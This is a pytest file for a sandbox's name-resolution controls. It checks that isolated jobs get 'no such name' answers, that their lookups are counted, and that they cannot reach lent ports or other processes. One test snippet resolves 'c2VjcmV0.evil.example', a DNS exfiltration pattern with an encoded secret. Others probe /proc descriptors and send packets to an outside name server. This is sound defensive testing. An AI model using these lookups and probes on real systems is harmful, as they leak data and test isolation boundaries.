"""Names that a job asks for: answered inside with "no such name", listed outside, in both isolating sandboxes."""

from __future__ import annotations

import os
import socket
import struct
from pathlib import Path

import pytest

from bench.guest.first_process import descendants
from bench.sandbox import NAMES, NameQueries, Sandbox, lent_ports
from bench.sandbox.control import MOST_NAMES, OTHERS, asked_name
from tests.helpers.cells import processes_with, run_code


def query(name: bytes) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


_LOOKS = """
import errno, os, socket, struct
for name in ("telemetry.example.org", "telemetry.example.org", "c2VjcmV0.evil.example"):
    try:
        socket.getaddrinfo(name, 443)
    except socket.gaierror as error:
        assert error.errno == socket.EAI_NONAME, error
    else:
        raise AssertionError(name)
assert "CapEff:\\t0000000000000000" in open("/proc/self/status").read()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"\\xff" * 5, ("127.0.0.1", 53))
s.sendto(b"\\xff" * 600, ("127.0.0.1", 53))
print(socket.gethostbyname("localhost"))
"""


def test_names_are_answered_and_listed(isolating: Sandbox, tmp_path: Path) -> None:
    with NameQueries(tmp_path / "names.sock") as names:
        ended = run_code(isolating, tmp_path, _LOOKS, sockets={NAMES: names.path})
    assert ended.code == 0, ended.stderr
    assert ended.stdout == b"127.0.0.1\n"
    counts = names.counts()
    assert set(counts) == {"telemetry.example.org", "c2vjcmv0.evil.example"}
    assert counts["telemetry.example.org"] == 2 * counts["c2vjcmv0.evil.example"]
    assert vars(ended.network_attempts) == {"addresses": 0, "names": 0}
    assert not names.path.exists()


_ASKS = "import socket\ntry:\n    socket.getaddrinfo('example.org', 1)\nexcept OSError:\n    print('none')"


def test_bubblewrap_counts_them_where_nobody_gets_the_port(
    bubblewrap: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The helper ends without an answer, as on a kernel that does not let it in."""
    broken = tmp_path / "broken.py"
    broken.write_text("raise SystemExit(1)")
    monkeypatch.setattr(lent_ports, "__file__", str(broken))
    with NameQueries(tmp_path / "names.sock") as names:
        ended = run_code(bubblewrap, tmp_path, _ASKS, sockets={NAMES: names.path})
    assert (ended.code, ended.stdout, names.counts()) == (0, b"none\n", {})
    assert ended.network_attempts.addresses == 0
    assert ended.network_attempts.names > 0


_REACHES = """
import os, socket
print(sorted(os.listdir("/proc/self/fd")))
for pid in (entry for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()):
    # A job of a root runner sees the numbers, and no more.
    for number in range(64):
        try:
            print("open", os.readlink(f"/proc/{pid}/fd/{number}"))
        except OSError as error:
            print("closed", error.errno)
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1")):
    try:
        socket.socket(family, socket.SOCK_DGRAM).bind((address, 53))
        print("bound")
    except OSError as error:
        print("refused")
"""


def test_what_is_lent_stays_out_of_the_jobs_reach(bubblewrap: Sandbox, tmp_path: Path) -> None:
    """No descriptor, no port of its own, nobody to look into; and no helper is left when the job has begun."""
    with NameQueries(tmp_path / "names.sock") as names:
        ended = run_code(bubblewrap, tmp_path, _REACHES, sockets={NAMES: names.path})
    lines = ended.stdout.decode().splitlines()
    assert lines[0] == "['0', '1', '2', '3']", "the last is the folder that is listed"
    assert set(lines[1:]) <= {"closed 13", "closed 2", "refused"}, lines
    assert lines.count("refused") == 3 and lines.count("closed 13") >= 3
    # Other tests that run beside this one have helpers of their own.
    assert not set(processes_with("lent_ports.py")) & set(descendants(os.getpid()))


def test_a_packet_to_a_name_server_elsewhere_is_an_attempt(isolating: Sandbox, tmp_path: Path) -> None:
    code = f"""
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({query(b"example.org")!r}, ("203.0.113.53", 53))
except OSError:
    pass
"""
    with NameQueries(tmp_path / "names.sock") as names:
        ended = run_code(isolating, tmp_path, code, sockets={NAMES: names.path})
    assert (ended.network_attempts.addresses, names.counts()) == (1, {})


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (query(b"Example.ORG"), "example.org"), (query(b"a\n\x1b.\xff"), "a??.?"), (query(b"x" * 63), "x" * 63),
        (query(b".".join([b"y" * 60] * 3)), "y" * 60 + "." + "y" * 38 + "…"),
        (b"", None), (b"\0" * 12, None), (b"\0" * 13, None), (query(b"abc")[:14], None),
        (b"\0" * 12 + b"\xc0\x0c", None),
    ],
)  # fmt: skip
def test_a_query_is_read_whatever_it_holds(data: bytes, name: str | None) -> None:
    assert asked_name(data) == name


def test_a_flood_of_names_stays_within_bounds(tmp_path: Path) -> None:
    with NameQueries(tmp_path / "n.sock") as names, socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as asking:
        for number in range(MOST_NAMES + 50):
            asking.sendto(query(b"n%d.example" % number), str(tmp_path / "n.sock"))
    counts = names.counts()
    assert len(counts) == MOST_NAMES + 1
    assert counts[OTHERS] == 50
